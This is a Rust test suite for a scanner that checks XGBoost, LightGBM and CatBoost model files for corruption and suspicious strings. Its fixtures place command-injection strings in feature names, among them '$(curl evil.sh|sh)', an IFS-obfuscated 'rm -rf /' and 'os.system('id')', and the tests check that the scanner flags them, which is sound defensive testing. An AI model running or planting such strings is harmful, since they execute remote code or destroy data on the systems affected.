use std::io::Cursor;

use cordon_plugin_sdk::{ScanError, ScanOutput, Severity, Status};

use super::*;

fn failed(out: &ScanOutput) -> Vec<(&str, Option<Severity>, &str)> {
    out.checks
        .iter()
        .filter(|c| c.status == Status::Failed)
        .map(|c| (c.rule.as_str(), c.severity, c.message.as_str()))
        .collect()
}

fn meta<'a>(out: &'a ScanOutput, key: &str) -> Option<&'a str> {
    out.metadata
        .iter()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
}

fn passed_rules(out: &ScanOutput) -> Vec<&str> {
    out.checks
        .iter()
        .filter(|c| c.status == Status::Passed)
        .map(|c| c.rule.as_str())
        .collect()
}

/// An XGBoost JSON model with two trees, as `save_model("m.json")` writes it.
fn xgboost_json(feature: &str, num_trees: &str, objective: &str) -> String {
    let tree = r#"{"base_weights":[0.1],"left_children":[-1],"right_children":[-1],"split_indices":[0],"split_conditions":[0.5],"tree_param":{"num_nodes":"1","num_feature":"2"}}"#;
    format!(
        r#"{{"learner":{{"attributes":{{"best_iteration":"1"}},"feature_names":["{feature}","f1"],"feature_types":["float","float"],"gradient_booster":{{"model":{{"gbtree_model_param":{{"num_parallel_tree":"1","num_trees":"{num_trees}"}},"iteration_indptr":[0,1,2],"tree_info":[0,0],"trees":[{tree},{tree}]}},"name":"gbtree"}},"learner_model_param":{{"base_score":"5E-1","num_class":"0","num_feature":"2","num_target":"1"}},"objective":{{"name":"{objective}","reg_loss_param":{{"scale_pos_weight":"1"}}}}}},"version":[2,1,0]}}"#
    )
}

fn scan_json(text: &str) -> Result<ScanOutput, ScanError> {
    assert!(xgboost::looks_like_xgboost_json(text.as_bytes()));
    let mut out = ScanOutput::default();
    json_document(serde_json::from_str(text), "xgboost-json", &mut out)?;
    Ok(out)
}

#[test]
fn valid_xgboost_json_passes_with_metadata() {
    let out = scan_json(&xgboost_json("age", "2", "binary:logistic")).unwrap();
    assert!(failed(&out).is_empty(), "{:?}", failed(&out));
    let passed = passed_rules(&out);
    for rule in [rules::STRUCTURE, rules::OBJECTIVE, rules::STRINGS] {
        assert_eq!(passed.iter().filter(|r| **r == rule).count(), 1, "{rule}");
    }
    assert_eq!(meta(&out, "version"), Some("2.1.0"));
    assert_eq!(meta(&out, "trees"), Some("2"));
    assert_eq!(meta(&out, "features"), Some("2"));
    assert_eq!(meta(&out, "objective"), Some("binary:logistic"));
}

#[test]
fn xgboost_inconsistencies_and_strings_are_flagged() {
    let out = scan_json(&xgboost_json("$(curl evil.sh|sh)", "7", "custom:mine")).unwrap();
    let f = failed(&out);
    assert!(
        f.iter()
            .any(|(r, _, m)| *r == rules::STRUCTURE && m.contains("num_trees=7")),
        "{f:?}"
    );
    assert!(f.iter().any(|(r, _, _)| *r == rules::OBJECTIVE));
    assert!(
        f.iter()
            .any(|(r, s, _)| *r == rules::STRINGS && *s == Some(Severity::Medium))
    );
    let url = scan_json(&xgboost_json(
        "https://x.example/f",
        "2",
        "reg:squarederror",
    ))
    .unwrap();
    assert_eq!(
        failed(&url),
        vec![(rules::STRINGS, Some(Severity::Low), failed(&url)[0].2)]
    );
}

#[test]
fn other_json_is_declined() {
    assert!(!xgboost::looks_like_xgboost_json(
        br#"{"architectures":["Bert"]}"#
    ));
    let mut out = ScanOutput::default();
    let doc = serde_json::from_str(r#"{"learner":{}}"#);
    assert!(matches!(
        json_document(doc, "xgboost-json", &mut out),
        Err(ScanError::Unsupported(_))
    ));
}

#[test]
fn broken_xgboost_json_is_a_failed_check_not_a_panic() {
    let text = xgboost_json("a", "2", "binary:logistic");
    for cut in (1..text.len()).step_by(7) {
        let mut out = ScanOutput::default();
        let _ = json_document(serde_json::from_str(&text[..cut]), "xgboost-json", &mut out);
        assert!(!failed(&out).is_empty(), "cut at {cut}");
    }
}

/// UBJSON encoding of a JSON value, as XGBoost writes it (int64 lengths, typed float array).
fn ubj(value: &serde_json::Value, out: &mut Vec<u8>) {
    use serde_json::Value;
    let string = |s: &str, out: &mut Vec<u8>| {
        out.push(b'L');
        out.extend_from_slice(&(s.len() as i64).to_be_bytes());
        out.extend_from_slice(s.as_bytes());
    };
    match value {
        Value::Null => out.push(b'Z'),
        Value::Bool(b) => out.push(if *b { b'T' } else { b'F' }),
        Value::Number(n) if n.is_i64() => {
            out.push(b'l');
            out.extend_from_slice(&(n.as_i64().unwrap() as i32).to_be_bytes());
        }
        Value::Number(n) => {
            out.push(b'd');
            out.extend_from_slice(&(n.as_f64().unwrap() as f32).to_be_bytes());
        }
        Value::String(s) => {
            out.push(b'S');
            string(s, out);
        }
        Value::Array(items) if !items.is_empty() && items.iter().all(|v| v.is_f64()) => {
            out.extend_from_slice(b"[$d#L");
            out.extend_from_slice(&(items.len() as i64).to_be_bytes());
            for v in items {
                out.extend_from_slice(&(v.as_f64().unwrap() as f32).to_be_bytes());
            }
        }
        Value::Array(items) => {
            out.push(b'[');
            items.iter().for_each(|v| ubj(v, out));
            out.push(b']');
        }
        Value::Object(map) => {
            out.push(b'{');
            for (k, v) in map {
                string(k, out);
                ubj(v, out);
            }
            out.push(b'}');
        }
    }
}

#[test]
fn xgboost_ubjson_is_checked_like_json() {
    let value: serde_json::Value =
        serde_json::from_str(&xgboost_json("os.system('id')", "2", "binary:logistic")).unwrap();
    let mut bytes = Vec::new();
    ubj(&value, &mut bytes);
    let mut out = ScanOutput::default();
    ubjson_bytes(&bytes, &mut out).unwrap();
    assert_eq!(meta(&out, "format"), Some("xgboost-ubjson"));
    assert_eq!(meta(&out, "trees"), Some("2"));
    let f = failed(&out);
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].0, rules::STRINGS);
    for cut in 0..bytes.len() {
        let mut out = ScanOutput::default();
        let _ = ubjson_bytes(&bytes[..cut], &mut out);
    }
    // A count larger than the input is refused before any allocation.
    let huge = b"{L\0\0\0\0\0\0\0\x07learner[$d#L\x7f\xff\xff\xff\xff\xff\xff\xff}";
    let mut out = ScanOutput::default();
    ubjson_bytes(huge, &mut out).unwrap();
    assert!(failed(&out)[0].2.contains("exceeds"), "{:?}", failed(&out));
}

fn lightgbm(feature: &str, trees: usize, end: bool) -> String {
    let mut text = format!(
        "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\nobjective=binary sigmoid:1\nfeature_names={feature} f1\nfeature_infos=[0:1] [0:1]\ntree_sizes={}\n\n",
        vec!["100"; trees].join(" ")
    );
    for i in 0..trees {
        text.push_str(&format!("Tree={i}\nnum_leaves=2\nsplit_feature=0\nthreshold=0.5\nleaf_value=0.1 -0.1\nshrinkage=1\n\n\n"));
    }
    if end {
        text.push_str("end of trees\n\nfeature_importances:\nf0=1\n\nparameters:\n[boosting: gbdt]\n[objective: binary]\nend of parameters\n\npandas_categorical:null\n");
    }
    text
}

fn scan_lightgbm(text: &str) -> ScanOutput {
    assert!(lightgbm::looks_like_lightgbm(text.as_bytes()));
    let mut out = ScanOutput::default();
    lightgbm::analyze(Cursor::new(text.as_bytes()), &mut out).unwrap();
    out
}

#[test]
fn valid_lightgbm_passes_with_metadata() {
    let out = scan_lightgbm(&lightgbm("age", 3, true));
    assert!(failed(&out).is_empty(), "{:?}", failed(&out));
    assert_eq!(passed_rules(&out).len(), 3);
    assert_eq!(meta(&out, "trees"), Some("3"));
    assert_eq!(meta(&out, "version"), Some("v4"));
    assert_eq!(meta(&out, "features"), Some("2"));
    assert_eq!(meta(&out, "objective"), Some("binary sigmoid:1"));
}

#[test]
fn lightgbm_attacks_and_damage_are_flagged() {
    let out = scan_lightgbm(&lightgbm("`rm${IFS}-rf${IFS}/`", 2, true));
    assert!(
        failed(&out)
            .iter()
            .any(|(r, s, _)| *r == rules::STRINGS && *s == Some(Severity::Medium))
    );
    let truncated = scan_lightgbm(&lightgbm("a", 2, false));
    assert!(
        failed(&truncated)
            .iter()
            .any(|(_, _, m)| m.contains("end of trees"))
    );
    let skipped = lightgbm("a", 3, true).replace("Tree=1\n", "Tree=5\n");
    assert!(
        failed(&scan_lightgbm(&skipped))
            .iter()
            .any(|(_, _, m)| m.contains("out of sequence"))
    );
    let sizes = lightgbm("a", 2, true).replace("tree_sizes=100 100", "tree_sizes=100");
    assert!(
        failed(&scan_lightgbm(&sizes))
            .iter()
            .any(|(_, _, m)| m.contains("tree_sizes"))
    );
    let classes = lightgbm("a", 2, true).replace("num_class=1", "num_class=99999999999");
    assert!(
        failed(&scan_lightgbm(&classes))
            .iter()
            .any(|(_, _, m)| m.contains("num_class"))
    );
}

#[test]
fn lightgbm_failures_are_capped() {
    let names: Vec<String> = (0..120).map(|i| format!("$(id{i})")).collect();
    let text =
        lightgbm(&names.join(" "), 1, true).replace("max_feature_idx=1", "max_feature_idx=120");
    let out = scan_lightgbm(&text);
    let strings: Vec<_> = failed(&out)
        .into_iter()
        .filter(|(r, _, _)| *r == rules::STRINGS)
        .collect();
    assert_eq!(strings.len(), cordon_plugin_sdk::Findings::MAX_PER_RULE + 1);
    assert!(
        strings
            .last()
            .unwrap()
            .2
            .starts_with("120 findings in total")
    );
}

#[test]
fn readme_is_not_lightgbm() {
    assert!(!lightgbm::looks_like_lightgbm(b"# tree\nversion=1\n"));
    assert!(!lightgbm::looks_like_lightgbm(b"treehouse\nversion=v4\n"));
}

/// `LearnerModelParamLegacy` then objective and booster names.
fn xgboost_binary(objective: &str, booster: &str) -> Vec<u8> {
    let mut b = b"binf".to_vec();
    let mut param = vec![0u8; 136];
    param[4..8].copy_from_slice(&3u32.to_le_bytes());
    param[20..24].copy_from_slice(&1u32.to_le_bytes());
    b.extend_from_slice(&param);
    for name in [objective, booster] {
        b.extend_from_slice(&(name.len() as u64).to_le_bytes());
        b.extend_from_slice(name.as_bytes());
    }
    b.extend_from_slice(&[0; 64]);
    b
}

#[test]
fn xgboost_binary_header_is_read_and_body_reported_skipped() {
    let mut out = ScanOutput::default();
    xgboost_binary::analyze(&xgboost_binary("reg:squarederror", "gbtree"), &mut out).unwrap();
    assert!(failed(&out).is_empty());
    assert!(
        out.checks
            .iter()
            .any(|c| c.rule == rules::OPAQUE && c.status == Status::Skipped)
    );
    assert_eq!(meta(&out, "features"), Some("3"));
    let mut out = ScanOutput::default();
    xgboost_binary::analyze(&xgboost_binary("evil", "gbtree"), &mut out).unwrap();
    assert_eq!(failed(&out)[0].0, rules::OBJECTIVE);
    // A SentencePiece `.model` (protobuf) is declined.
    let mut out = ScanOutput::default();
    let sp = b"\n\x0b\n\x05<unk>\x15\0\0\0\0\x18\x02".repeat(40);
    assert!(matches!(
        xgboost_binary::analyze(&sp, &mut out),
        Err(ScanError::Unsupported(_))
    ));
}

/// `CBM1`, the core size, and a FlatBuffers core whose root table's field 0 is `version`.
fn catboost(version: &str, declared: Option<u32>) -> Vec<u8> {
    let mut core = Vec::new();
    core.extend_from_slice(&12u32.to_le_bytes()); // root table at 12
    core.extend_from_slice(&6u16.to_le_bytes()); // vtable at 4: 6 bytes
    core.extend_from_slice(&8u16.to_le_bytes()); // table size
    core.extend_from_slice(&4u16.to_le_bytes()); // field 0 at table+4
    core.extend_from_slice(&[0, 0]);
    core.extend_from_slice(&8i32.to_le_bytes()); // table at 12: vtable = 12 - 8
    core.extend_from_slice(&4u32.to_le_bytes()); // string at 16 + 4
    core.extend_from_slice(&(version.len() as u32).to_le_bytes());
    core.extend_from_slice(version.as_bytes());
    let mut b = b"CBM1".to_vec();
    b.extend_from_slice(&declared.unwrap_or(core.len() as u32).to_le_bytes());
    b.extend_from_slice(&core);
    b
}

#[test]
fn catboost_framing_is_checked_and_core_skipped() {
    let bytes = catboost("FlabuffersModel_v1", None);
    let mut out = ScanOutput::default();
    catboost::analyze(&bytes, bytes.len() as u64, &mut out);
    assert!(failed(&out).is_empty(), "{:?}", failed(&out));
    assert_eq!(meta(&out, "version"), Some("FlabuffersModel_v1"));
    assert!(
        out.checks
            .iter()
            .any(|c| c.rule == rules::OPAQUE && c.status == Status::Skipped)
    );
    let bad = catboost("x", Some(1 << 30));
    let mut out = ScanOutput::default();
    catboost::analyze(&bad, bad.len() as u64, &mut out);
    assert!(failed(&out)[0].2.contains("does not fit"));
}

#[test]
fn truncated_and_random_inputs_never_panic() {
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut inputs = vec![
        catboost("v", None),
        xgboost_binary("binary:logistic", "dart"),
    ];
    inputs.push(lightgbm("a", 2, true).into_bytes());
    for _ in 0..300 {
        let len = (seed % 200) as usize;
        let bytes: Vec<u8> = (0..len)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                seed as u8
            })
            .collect();
        inputs.push(bytes);
    }
    for input in &inputs {
        for cut in 0..=input.len() {
            let part = &input[..cut];
            let mut out = ScanOutput::default();
            catboost::analyze(part, part.len() as u64, &mut out);
            let _ = xgboost_binary::analyze(part, &mut out);
            let _ = lightgbm::analyze(Cursor::new(part), &mut out);
            let _ = ubjson_bytes(part, &mut out);
        }
    }
}
